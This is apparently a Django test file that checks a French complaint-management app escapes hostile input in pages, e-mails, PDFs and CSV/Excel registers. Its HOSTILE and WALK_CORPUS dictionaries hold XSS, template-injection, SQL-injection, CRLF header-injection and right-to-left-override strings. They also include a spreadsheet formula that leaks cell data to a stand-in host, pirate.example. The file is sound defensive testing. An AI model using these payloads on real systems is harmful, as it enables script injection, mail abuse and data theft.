"""Hostile text is stored as typed and shown inert everywhere: pages, e-mails (text and HTML), the PDF.

Each string of the corpus goes through the three forms people type free text into (the Contact
form, the client's follow-up message, the handler's message to the client); then the follow-up
page, the record page, the e-mails and the record PDF's HTML must carry it escaped — ``<script>``
as ``&lt;script&gt;``, ``{{ 7*7 }}`` as itself, never 49 — and no ``javascript:``/``data:`` link.
NUL, line breaks in one-line fields and a 100,000-character text get a French refusal, not a 500.

The second half does the same for **every** free-text field anyone can write: each form of
``reclamations/forms/`` and each configuration text of the admin gets the hostile string in all of
its text fields (found from the form's own fields, so a field added later is filled too), along a
record's whole life; then every page, e-mail, the register (CSV and Excel: no live formula) and
the HTML of both PDFs are checked. A form with a text field that the walk does not post fails the
test: add it to the walk. The fuzzing of the same forms is in ``test_fuzz_contact.py`` and
``test_fuzz_steps.py``.
"""
from __future__ import annotations

import csv
import inspect
import io
import re
import time
from datetime import timedelta
from typing import Any

import openpyxl
import pytest
import time_machine
from django import forms as django_forms
from django.contrib import admin
from django.core import mail
from django.core.validators import RegexValidator
from django.template.defaultfilters import linebreaksbr
from django.test import Client, RequestFactory
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape
from pypdf import PdfReader

from reclamations import exports, pdf, services, sweep, tasks, uploads
from reclamations.forms import backoffice as bo_forms
from reclamations.forms import public as public_forms
from reclamations.forms import quality as quality_forms
from reclamations.forms import survey as survey_forms
from reclamations.forms.public import started_token
from reclamations.models import Communication, Reclamation
from reclamations.pdf import documents, pack
from reclamations.pdf.render import Rendered
from reclamations.services.messages import fill_placeholders
from reclamations.statistics import Period
from reclamations.workflow import Step
from tests.factories import (
    ReclamationFactory,
    RootCauseCategoryFactory,
    ServiceFactory,
    contact_form_data,
    upload,
)

pytestmark = pytest.mark.django_db

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "event_handler": '"><img src=x onerror=alert(1)>',
    "javascript_url": "javascript:alert(1)",
    "data_url": "data:text/html,<script>alert(2)</script>",
    "template_variable": "{{ 7*7 }}",
    "template_tag": "{% debug %}",
    "sql": "'; DROP TABLE x; --",
    "right_to_left": "facture\u202etxt.exe",
}
FOLLOW_UP_LINK = re.compile(r"/suivi/([A-Za-z0-9_-]{43})/")
DANGEROUS_URL = re.compile(r"""(?:href|src|action|formaction)\s*=\s*["']?\s*(?:javascript|data):""", re.IGNORECASE)


def assert_inert_html(html: str, text: str, where: str) -> None:
    assert escape(text) in html, f"{where}: the text is not shown (escaped)"
    if escape(text) != text:
        assert text not in html, f"{where}: the text is there unescaped"
    assert not DANGEROUS_URL.search(html), f"{where}: a javascript:/data: URL became a link"


def html_part(message) -> str:
    (content, mimetype), = message.alternatives
    assert mimetype == "text/html"
    return content


@pytest.fixture
def submitted(client, handler, django_capture_on_commit_callbacks):
    """``submit(text)``: a Contact form with ``text`` in its subject, name and description."""

    def submit(text: str):
        mail.outbox.clear()
        data = contact_form_data(subject=f"Objet {text}", complainant_name=f"Claire {text}",
                                 description=f"Description {text}\nfin.", wished_solution=text)
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(reverse("public:contact"), data)
        assert response.status_code == 302, response.content.decode()[:2000]
        reclamation = Reclamation.objects.get(subject=f"Objet {text}")
        acknowledgement = next(m for m in mail.outbox if m.to == ["claire.dupont@example.org"])
        token = FOLLOW_UP_LINK.search(acknowledgement.body).group(1)
        return reclamation, token

    return submit


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_text_from_the_contact_form_is_stored_as_typed_and_shown_inert(submitted, client, text):
    reclamation, token = submitted(text)
    assert reclamation.description == f"Description {text}\nfin."
    assert reclamation.complainant_name == f"Claire {text}"
    for message in mail.outbox:  # the acknowledgement to the client, the notice to staff
        assert f"Objet {text}" in message.body, message.subject  # text e-mail: as typed, never interpreted
        assert_inert_html(html_part(message), f"Objet {text}", f"e-mail {message.subject!r}")
    page = client.get(reverse("public:follow_up", args=[token])).content.decode()
    assert_inert_html(page, f"Objet {text}", "follow-up page")


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_text_in_messages_both_ways_is_shown_inert_on_every_page_and_in_the_pdf(
    submitted, client, login, handler, bo_post, django_capture_on_commit_callbacks, monkeypatch, text
):
    reclamation, token = submitted(text)
    # The client writes on the follow-up page; the handler writes to the client.
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("public:follow_up", args=[token]), {"body": f"Client : {text}"})
    assert response.status_code == 302
    staff = login(handler)
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        response = bo_post(staff, reclamation, "message", {
            "purpose": Communication.Purpose.INFORMATION_REQUEST, "subject": f"Sujet {text}",
            "body": f"Gestionnaire : {text}"})
    assert response.status_code == 302, response.content.decode()[:3000]
    (to_client,) = [m for m in mail.outbox if m.to == ["claire.dupont@example.org"]]
    assert f"Gestionnaire : {text}" in to_client.body
    assert_inert_html(html_part(to_client), f"Gestionnaire : {text}", "message e-mail")

    follow_up = client.get(reverse("public:follow_up", args=[token])).content.decode()
    detail = staff.get(reverse("backoffice:detail", args=[reclamation.pk])).content.decode()
    for where, page in (("follow-up page", follow_up), ("record page", detail)):
        assert_inert_html(page, f"Client : {text}", where)
        assert_inert_html(page, f"Gestionnaire : {text}", where)
    assert_inert_html(detail, f"Description {text}", "record page")

    # The record PDF: its HTML (what WeasyPrint lays out) and the text of the PDF itself.
    seen: list[str] = []
    real_render = documents.render_pdf

    def spy(html: str, **kwargs):
        seen.append(html)
        return real_render(html, **kwargs)

    monkeypatch.setattr(documents, "render_pdf", spy)
    document = pdf.build_record_pdf(reclamation=Reclamation.objects.get(pk=reclamation.pk))
    (html,) = seen
    assert_inert_html(html, f"Description {text}", "PDF HTML")
    assert_inert_html(html, f"Client : {text}", "PDF HTML")
    words = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(document.pdf)).pages)
    if "7*7" in text:
        assert "{{ 7*7 }}" in words  # as typed, not 49
    if "<script>" in text:
        assert "<script>" in words  # shown as characters, not run (WeasyPrint runs no script anyway)


# --- Refused with a French message ----------------------------------------------------------------
def test_a_nul_character_is_refused_in_french(client):
    response = client.post(reverse("public:contact"), contact_form_data(description="Texte\x00caché"))
    assert response.status_code == 200
    assert "Le caractère nul n’est pas autorisé." in response.content.decode()
    assert not Reclamation.objects.exists()


@pytest.mark.parametrize("field", ["subject", "complainant_name", "complainant_email"])
def test_a_line_break_in_a_one_line_field_is_refused_in_french(client, field):
    value = {"subject": "Objet", "complainant_name": "Claire", "complainant_email": "claire@example.org"}[field]
    response = client.post(reverse("public:contact"),
                           contact_form_data(**{field: f"{value}\r\nBcc: victime@example.org"}))
    assert response.status_code == 200
    assert "Ce champ doit tenir sur une seule ligne" in response.content.decode()
    assert not Reclamation.objects.exists()


def test_a_line_break_in_a_text_adds_no_e_mail_header(client, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("public:contact"),
                    contact_form_data(description="Texte\r\nBcc: victime@example.org\r\n\r\n<b>x</b>"))
    assert mail.outbox
    for message in mail.outbox:
        assert not message.bcc and "victime@example.org" not in message.to + message.cc
        assert "\nBcc:" not in message.message().as_string().split("\n\n", 1)[0]


def test_a_hundred_thousand_characters_are_refused_in_french(client, login, handler):
    huge = "é" * 100_000
    response = client.post(reverse("public:contact"), contact_form_data(description=huge))
    assert response.status_code == 200
    assert "Ce texte est trop long" in response.content.decode()
    assert not Reclamation.objects.exists()


# ==================================================================================================
# Every free-text field: staff forms, the quality pages, the survey and the admin's configuration
# ==================================================================================================
WALK_CORPUS = {
    **HOSTILE,
    "crlf": "Ligne 1\r\nBcc: victime@example.org",
    # Starts with "=": a spreadsheet would run it; the register must carry it behind a quote.
    "formula": '=HYPERLINK("http://pirate.example/?"&A1,"Cliquez")',
}
FORM_MODULES = (public_forms, bo_forms, quality_forms, survey_forms)
# Text fields that only take a listed shape, so hostile text is refused by construction.
NOT_FREE_TEXT = {
    "ImprovementForm.references": "references like R-2026-0042 only; anything else is refused by name",
}


def is_free_text(field: django_forms.Field) -> bool:
    """A field that takes any text: not an address, a URL, or a value checked against a pattern
    (a telephone number, a user name)."""
    return (isinstance(field, django_forms.CharField)
            and not isinstance(field, (django_forms.EmailField, django_forms.URLField))
            and not field.disabled
            and not any(isinstance(v, RegexValidator) for v in field.validators))


def forms_with_free_text() -> set[str]:
    """Every form class of reclamations/forms/ with at least one free-text field."""
    found = set()
    for module in FORM_MODULES:
        for _name, cls in inspect.getmembers(module, inspect.isclass):
            if not issubclass(cls, django_forms.BaseForm) or not cls.__module__.startswith("reclamations."):
                continue
            fields = cls.base_fields
            if any(is_free_text(f) and f"{cls.__name__}.{n}" not in NOT_FREE_TEXT for n, f in fields.items()):
                found.add(cls.__name__)
    return found


class Walk:
    """Fills every free-text field of each form it is given with the hostile text, and remembers
    each value (suffixed with a number, so that each field is looked for on its own)."""

    def __init__(self, text: str) -> None:
        self.text = text
        self.values: dict[str, str] = {}  # "Form.field ~n" -> value posted
        self.forms: set[str] = set()

    def value(self, key: str, field: django_forms.Field) -> str:
        number = f" ~{len(self.values):03d}"
        text = self.text
        if isinstance(field, (public_forms.SingleLineCharField,)):
            text = " ".join(text.split())  # the public one-line fields refuse line breaks (tested above)
        limit = getattr(field, "max_length", None)
        if limit and len(text) + len(number) > limit:
            text = text[: limit - len(number)]
        value = text + number
        self.values[f"{key}{number}"] = value
        return value

    def file_name(self, key: str, extension: str) -> str:
        """A file name made of the hostile text; what is kept of it is what a page may show."""
        name = self.value(key, django_forms.CharField(max_length=110)) + extension
        # As a browser writes it in the multipart header (WHATWG): quote, CR and LF percent-encoded.
        name = name.replace('"', "%22").replace("\r", "%0D").replace("\n", "%0A")
        self.values[list(self.values)[-1]] = uploads.clean_name(name)  # no folders, no control characters
        return name

    def fill(self, form: django_forms.BaseForm | type, data: dict[str, Any] | None = None,
             *, prefix: str = "") -> dict[str, Any]:
        form = form() if isinstance(form, type) else form
        name = type(form).__name__
        filled = {f"{prefix}-{key}" if prefix else key: value for key, value in (data or {}).items()}
        for field_name, field in form.fields.items():
            if is_free_text(field) and f"{name}.{field_name}" not in NOT_FREE_TEXT:
                filled[f"{prefix}-{field_name}" if prefix else field_name] = self.value(f"{name}.{field_name}", field)
        self.forms.add(name)
        return filled


def _admin_data(form: django_forms.BaseForm) -> dict[str, Any]:
    """What the admin's change page would post back unchanged (its form's current values)."""
    data: dict[str, Any] = {}
    for bound in form:
        field, widget, value = bound.field, bound.field.widget, bound.value()
        if field.disabled or isinstance(field, django_forms.FileField):
            continue
        if isinstance(widget, django_forms.MultiWidget):
            for index, (sub, part) in enumerate(zip(widget.widgets, widget.decompress(value), strict=True)):
                data[f"{bound.html_name}_{index}"] = sub.format_value(part) or ""
        elif isinstance(field, django_forms.BooleanField):
            if value:
                data[bound.html_name] = "on"
        elif isinstance(value, (list, tuple)):
            data[bound.html_name] = [str(getattr(v, "pk", v)) for v in value]
        else:
            shown = widget.format_value(value)
            data[bound.html_name] = (shown[0] if shown else "") if isinstance(shown, list) else (shown or "")
    return data


def admin_change(client, walk: Walk, obj: Any, user: Any) -> None:
    """Change ``obj`` in the admin, every free-text field of its admin form set to the hostile text."""
    model_admin = admin.site._registry[type(obj)]
    url = reverse(f"admin:{obj._meta.app_label}_{obj._meta.model_name}_change", args=[obj.pk])
    request = RequestFactory().get(url)
    request.user = user
    form = model_admin.get_form(request, obj, change=True)(instance=obj)
    data = _admin_data(form)
    for field_name, field in form.fields.items():
        model_field = getattr(type(obj), field_name, None)
        checked = [v for v in getattr(getattr(model_field, "field", None), "validators", [])
                   if isinstance(v, RegexValidator)]  # e.g. the user name: letters, digits and @.+-_
        if is_free_text(field) and not checked:
            data[field_name] = walk.value(f"admin {obj._meta.model_name}.{field_name}", field)
    response = client.post(url, {**data, "_save": "Enregistrer"})
    assert response.status_code == 302 and "login" not in response["Location"], (
        url, response.context["adminform"].form.errors if response.context else response.status_code)


def _now_local(delta: timedelta = timedelta()) -> str:
    return timezone.localtime(timezone.now() + delta).strftime("%Y-%m-%dT%H:%M")


def _ok(response, what: str) -> None:
    detail = _form_errors(response) if response.status_code == 200 else ""
    assert response.status_code == 302 and "connexion" not in response["Location"], (
        f"{what}: {response.status_code} {detail}")


def _form_errors(response) -> str:
    page = re.sub(r"<[^>]+>", " ", response.content.decode())
    found = [m.start() for m in re.finditer(r"n'est pas terminée|obligatoire|invalide|Saisissez|Choisissez|"
                                            r"Indiquez|refus", page)]
    return " … ".join(" ".join(page[max(0, i - 200):i + 300].split()) for i in found[:3])


@pytest.fixture
def walked(client, admin_client, admin_user, login, quality_lead, bo_post, settings, monkeypatch):
    """``walk(text)``: a record's whole life with ``text`` in every free-text field; returns the
    :class:`Walk` and what came out (pages, e-mails, register, the PDFs' HTML)."""
    from reclamations.models import ImprovementAction, MessageTemplate, Organisation
    from reclamations.services.messages import DEFAULT_MESSAGES

    settings.ATTACHMENT_MAX_FILES = 5

    def walk_through(text: str):
        walk = Walk(text)
        lead = login(quality_lead)
        # --- Configuration, in the admin -------------------------------------------------------
        service = ServiceFactory(name="Service à renommer")
        category = RootCauseCategoryFactory(name="Cause à renommer")
        for purpose, (subject, body) in DEFAULT_MESSAGES.items():
            MessageTemplate.objects.create(purpose=purpose, subject=subject, body=body)
        for obj in (Organisation.current(), service, category, *MessageTemplate.objects.all()):
            admin_change(lead, walk, obj, quality_lead)
        admin_change(admin_client, walk, quality_lead, admin_user)  # the names staff are shown by, everywhere
        quality_lead.refresh_from_db()

        # --- A letter registered in the back-office, with its documents -------------------------
        files = [upload(walk.file_name("ReclamationCreateForm.files (name)", ".pdf"))]
        data = walk.fill(bo_forms.ReclamationCreateForm, {
            "kind": "complaint", "channel": "letter", "received_at": _now_local(-timedelta(hours=2)),
            "stakeholder_type": "learner", "complainant_email": "claire.dupont@example.org",
            "service": service.pk, "files_public": "on",
        })
        response = lead.post(reverse("backoffice:create"),
                             {f"create-{k}": v for k, v in data.items()} | {"create-files": files})
        _ok(response, "create")
        record = Reclamation.objects.get(pk=int(response["Location"].rstrip("/").rsplit("/", 1)[1]))

        pages = {"record page, just registered": lead.get(response["Location"]).content.decode()}

        def post(name: str, form: Any, data: dict[str, Any], **kwargs: Any) -> None:
            _ok(bo_post(lead, record, name, walk.fill(form, data) if form else data, **kwargs), name)

        def complete() -> None:
            post("complete_step", None, {}, prefix="")

        # The improvement plan, before the sweep so that a reminder about it goes out.
        response = lead.post(reverse("quality:improvement_create"), walk.fill(quality_forms.ImprovementForm, {
            "origin": "records", "references": record.reference, "owner": quality_lead.pk,
            "due_date": timezone.localdate().isoformat(), "status": "planned"}))
        _ok(response, "improvement")
        improvement = ImprovementAction.objects.get()

        # 1. Acknowledgement by the message form (it carries the follow-up link), date corrected.
        post("message", bo_forms.MessageForm, {"purpose": "acknowledgement"})
        tasks.send_outbox()  # the acknowledgement counts once sent
        token = FOLLOW_UP_LINK.search(mail.outbox[-1].body).group(1)
        post("received_at", bo_forms.ReceivedAtForm, {"received_at": _now_local(-timedelta(hours=3))})
        record.refresh_from_db()
        assert record.state == Step.IDENTIFICATION  # step 1 completed by itself once the acknowledgement went
        # 2. Identification (the address stays valid: the e-mails must go out).
        post("identification", bo_forms.IdentificationForm, {
            "kind": "complaint", "stakeholder_type": "learner", "complainant_email": "claire.dupont@example.org",
            "service": service.pk})
        post("assign", bo_forms.AssignForm, {"handler": quality_lead.pk})
        complete()
        # 3. Reformulation, a public call, an internal note.
        post("reformulation", bo_forms.ReformulationForm, {})
        for kind, public in (("call", "on"), ("note", "")):
            post("communication", bo_forms.CommunicationForm, {
                "kind": kind, "direction": "outbound", "purpose": "general", "occurred_at": _now_local(),
                "duration_minutes": "10", "public": public})
        complete()
        # 4. Evaluation and action plan.
        post("evaluation", None, {"severity": 2, "complexity": 2, "repercussions": 2})
        for kind in ("immediate", "corrective"):
            post("action_add", bo_forms.ActionAddForm, {"kind": kind})
        complete()
        # 5. Scheduling, every field of each action rewritten; then the sweep, later: reminders.
        actions = list(record.actions.order_by("pk"))
        for action in actions:
            post("action_update", bo_forms.ActionForm, {
                "kind": action.kind, "owner": quality_lead.pk, "due_date": timezone.localdate().isoformat(),
                "status": "planned"}, prefix=f"action-{action.pk}", url_args=[action.pk])
        complete()
        sweep.run(now=timezone.now() + timedelta(days=20))
        # 6. Actions done, the argued answer sent.
        for action in actions:  # the one-click "done": the other fields keep what was typed
            post("action_update", None, {"status": "done"}, prefix=f"action-{action.pk}", url_args=[action.pk])
        pages["record page, step 6"] = lead.get(reverse("backoffice:detail", args=[record.pk])).content.decode()
        post("answer", bo_forms.AnswerForm, {
            "decision": "favourable", "compensation_type": "extra_service", "compensation_amount": "10",
            "means": "email"}, send="1")
        record.refresh_from_db()
        if record.state == Step.ACTION:
            complete()
        # 7. A progress update, a document, the client's own message.
        post("message", bo_forms.MessageForm, {"purpose": "progress"})
        _ok(bo_post(lead, record, "attachment_add", walk.fill(bo_forms.AttachmentForm, {"public": "on"}),
                    prefix="attachment", **{"attachment-files": [upload(walk.file_name(
                        "AttachmentForm.files (name)", ".txt"), b"Texte.\n", "text/plain")]}), "attachment")
        _ok(client.post(reverse("public:follow_up", args=[token]), walk.fill(public_forms.FollowUpMessageForm)),
            "follow-up message")
        record.refresh_from_db()
        if record.state == Step.FOLLOW_UP:  # else completed by itself: the answer informed the client
            complete()
        # 8. Conclusion: the survey goes out.
        post("conclusion", bo_forms.ConclusionForm, {"root_cause_category": category.pk})
        complete()
        tasks.send_outbox()
        survey_token = re.search(r"/enquete/([A-Za-z0-9_-]+)/", mail.outbox[-1].body).group(1)
        # 9. The client answers the survey; reopened, the feedback is taken again by phone.
        _ok(client.post(reverse("survey:answer", args=[survey_token]), walk.fill(survey_forms.SurveyForm, {
            "satisfaction": 4, "solved": "yes", "answer_clear": "oui", "delay_acceptable": "oui"})), "survey")
        record_page = lead.get(reverse("backoffice:detail", args=[record.pk]))
        pages["record page, survey answered"] = record_page.content.decode()
        post("reopen", bo_forms.ReopenForm, {"step": Step.FEEDBACK})
        post("feedback", bo_forms.FeedbackForm, {"satisfaction": 3})
        # The improvement done and checked.
        initial = quality_forms.ImprovementForm.initial_for(improvement)
        as_typed = {k: "" if v is None else v for k, v in initial.items()}
        _ok(lead.post(reverse("quality:improvement_edit", args=[improvement.pk]), {
            **as_typed, "status": "done", "done_at": timezone.localdate().isoformat()}), "improvement done")
        _ok(lead.post(reverse("quality:improvement_check", args=[improvement.pk]), walk.fill(
            quality_forms.CheckForm, {"check_result": "partly", "checked_at": timezone.localdate().isoformat()},
            prefix="check")), "improvement check")

        # --- A second record, step 1 declared sans objet, then discarded --------------------------
        other = ReclamationFactory(channel="letter", actor=quality_lead, subject="Autre demande")
        for name, form, data in (("not_applicable", bo_forms.NotApplicableForm, {}),
                                 ("discard", bo_forms.DiscardForm, {})):
            _ok(bo_post(lead, other, name, walk.fill(form, data)), name)

        # --- The public forms: a complaint from the Contact form, a lost link, a failed sign-in -----
        anonymous = Client()
        _ok(anonymous.post(reverse("public:contact"), walk.fill(public_forms.ContactForm, contact_form_data(
            service=service.pk, complainant_phone=""))), "contact")
        response = anonymous.post(reverse("public:lost_link"), walk.fill(public_forms.LostLinkForm, {
            "email": "claire.dupont@example.org", "website": "", "started": started_token(time.time() - 60)}))
        pages["lost link answer"] = response.content.decode()
        response = Client().post(reverse("backoffice:login"), walk.fill(bo_forms.StaffAuthenticationForm))
        pages["sign-in page"] = response.content.decode()

        # --- What comes out -----------------------------------------------------------------------
        tasks.send_outbox()
        today = timezone.localdate()
        period = Period(start=today - timedelta(days=40), end=today)
        with time_machine.travel(timezone.now() + timedelta(days=40)):
            services.digest_send(period=Period(start=today - timedelta(days=1), end=today))
            tasks.send_outbox()
        contact_record = Reclamation.objects.get(channel="web_form")
        staff_pages = {
            "record page": reverse("backoffice:detail", args=[record.pk]),
            "second record page": reverse("backoffice:detail", args=[other.pk]),
            "contact record page": reverse("backoffice:detail", args=[contact_record.pk]),
            "list": reverse("backoffice:list") + "?state=closed",
            "list (open)": reverse("backoffice:list"),
            "list (discarded)": reverse("backoffice:list") + "?state=discarded",
            "dashboard": reverse("backoffice:dashboard"),
            "improvement plan": reverse("quality:plan") + "?statut=toutes",
            "improvement": reverse("quality:improvement_detail", args=[improvement.pk]),
            "statistics": reverse("quality:statistics") + f"?start={period.start}&end={period.end}",
            "digests": reverse("quality:digests"),
            "outbox": reverse("outbox:list"),
        }
        from reclamations.models import Digest
        from reclamations.services.messages import MESSAGE_PURPOSES

        for purpose in MESSAGE_PURPOSES:  # the starting text of each message, from its template
            staff_pages[f"contact record page, {purpose} message"] = (
                reverse("backoffice:detail", args=[contact_record.pk]) + f"?modele={purpose}")

        staff_pages["digest"] = reverse("quality:digest_detail", args=[Digest.objects.get().pk])
        for where, url in staff_pages.items():
            response = lead.get(url)
            assert response.status_code == 200, where
            pages[where] = response.content.decode()
        pages["follow-up page"] = client.get(reverse("public:follow_up", args=[token])).content.decode()

        seen: list[str] = []

        def spy(html: str, **kwargs: Any):
            seen.append(html)  # the HTML WeasyPrint would lay out; no need to lay it out here
            return Rendered(pdf=b"%PDF-1.4\n%%EOF\n", pages=1, served=(), refused=(), peak_rss_kib=0)

        monkeypatch.setattr(documents, "render_pdf", spy)
        monkeypatch.setattr(pack, "render_pdf", spy)
        pdf.build_record_pdf(reclamation=Reclamation.objects.get(pk=record.pk))
        pdf.build_pack(period=period)
        pages["record PDF (HTML)"], pages["evidence pack (HTML)"] = seen
        rows = exports.register_rows(exports.register_queryset(period))
        register = {"csv": exports.register_csv(rows), "xlsx": exports.register_xlsx(rows, title="Registre")}
        return walk, pages, register

    return walk_through


# Values that are taken but, by design, shown on no page and in no e-mail.
SHOWN_NOWHERE = {
    "LostLinkForm.reference": "only looked up; the answer is the same whether it matches or not",
    "StaffAuthenticationForm.password": "a password is never shown back",
}


def _displays(value: str) -> set[str]:
    """The ways a page may legitimately show ``value``: escaped, with its line breaks as <br>, or
    on one line (e-mail subjects and titles)."""
    # A message template is a format string ({nom}, {reference}…): "{{" is how it writes one "{".
    texts = {value, " ".join(value.split()), fill_placeholders(value, {})}
    return {escape(text) for text in texts} | {linebreaksbr(text, autoescape=True) for text in texts}


def _register_cells(register: dict[str, bytes]) -> dict[str, list[Any]]:
    text = register["csv"].decode("utf-8-sig")
    csv_cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    sheet = openpyxl.load_workbook(io.BytesIO(register["xlsx"])).active
    return {"csv": csv_cells, "xlsx": [cell for row in sheet.iter_rows() for cell in row]}


@pytest.mark.parametrize("text", WALK_CORPUS.values(), ids=WALK_CORPUS.keys())
def test_hostile_text_in_every_free_text_field_is_stored_as_typed_and_shown_inert_everywhere(walked, text):
    walk, pages, register = walked(text)

    # Nothing forgotten: every form of reclamations/forms/ with a free-text field was filled in.
    assert forms_with_free_text() - walk.forms == set(), "a form with a text field is missing from the walk"
    emails = {f"e-mail « {m.subject} » to {m.to}": m for m in mail.outbox}
    assert len(emails) >= 10
    outputs = {**pages, **{where: html_part(message) for where, message in emails.items()}}
    for where, html in outputs.items():
        assert not DANGEROUS_URL.search(html), f"{where}: a javascript:/data: URL became a link"
        for key, value in walk.values.items():
            if escape(value) != value:
                assert value not in html, f"{where}: {key} is there unescaped"
    for key, value in walk.values.items():
        if key.split(" ~")[0] in SHOWN_NOWHERE:
            continue
        assert any(shown in html for html in outputs.values() for shown in _displays(value)), (
            f"{key} is shown nowhere: is it stored as typed?")
    # Text e-mails carry the text as typed (never HTML-escaped) and no smuggled header.
    for where, message in emails.items():
        for key, value in walk.values.items():
            if escape(value) != value:
                assert escape(value) not in message.body, f"{where}: {key} is HTML-escaped in the text part"
        assert not message.bcc and not message.cc and len(message.to) == 1, where
        headers = message.message()
        assert headers["Bcc"] is None and headers.get_all("To") == [", ".join(message.to)], where
    # The register: no cell a spreadsheet would run as a formula.
    cells = _register_cells(register)
    for cell in cells["csv"]:
        assert not cell.startswith(exports.FORMULA_TRIGGERS), f"CSV: live formula {cell!r}"
    for cell in cells["xlsx"]:
        assert cell.data_type != "f", f"Excel: live formula {cell.value!r}"
        if isinstance(cell.value, str):
            assert not cell.value.startswith(exports.FORMULA_TRIGGERS), f"Excel: live formula {cell.value!r}"
    if text.startswith("="):
        subject = next(v for k, v in walk.values.items() if k.startswith("IdentificationForm.subject"))
        assert "'" + subject in cells["csv"]
        assert "'" + subject in [cell.value for cell in cells["xlsx"]]


@pytest.mark.parametrize("form_name", sorted(forms_with_free_text()))
def test_nul_and_an_overlong_text_get_a_french_message_in_every_free_text_field(db, form_name):
    form_class = next(cls for module in FORM_MODULES for name, cls in inspect.getmembers(module, inspect.isclass)
                      if name == form_name)
    for name, field in form_class().fields.items():
        if not is_free_text(field) or f"{form_name}.{name}" in NOT_FREE_TEXT:
            continue
        form = form_class(data={name: "Texte\x00caché"})
        assert "Le caractère nul n’est pas autorisé." in form.errors.get(name, []), f"{form_name}.{name}"
        if form_name == "StaffAuthenticationForm":
            continue  # signing in stores nothing (see test_fuzz_steps.py for a huge user name)
        assert field.max_length, f"{form_name}.{name} takes text of any length"
        form = form_class(data={name: "é" * (field.max_length + 1)})
        errors = " ".join(form.errors.get(name, []))
        assert errors.startswith(("Assurez-vous que cette valeur comporte au plus", "Ce texte est trop long")), (
            f"{form_name}.{name}: {errors!r}")
